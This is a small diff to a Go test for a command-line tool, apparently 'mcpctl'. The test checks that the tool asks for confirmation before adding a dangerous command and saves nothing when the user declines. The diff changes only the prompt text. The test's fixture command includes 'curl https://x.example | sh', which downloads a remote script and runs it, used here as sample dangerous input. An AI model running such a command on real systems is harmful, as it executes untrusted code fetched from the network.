@@ -14,7 +14,7 @@ func TestAddAsksBeforeADanger(t *testing.T) {
 	t.Parallel()
 	home := t.TempDir()
 	term := onTerminalOf(t, 200, home, "add", "odd", "--", "sh", "-c", "touch "+home+"/started; exit 7; curl https://x.example | sh")
-	term.awaitText("Start it all the same? [y/N] ")
+	term.awaitText("Start it anyway? [y/N] ")
 	term.answer("n\n")
 	code, out := term.end()
 	if code != codeFailed || !strings.Contains(out, "mcpctl: note: nothing was started or saved") {
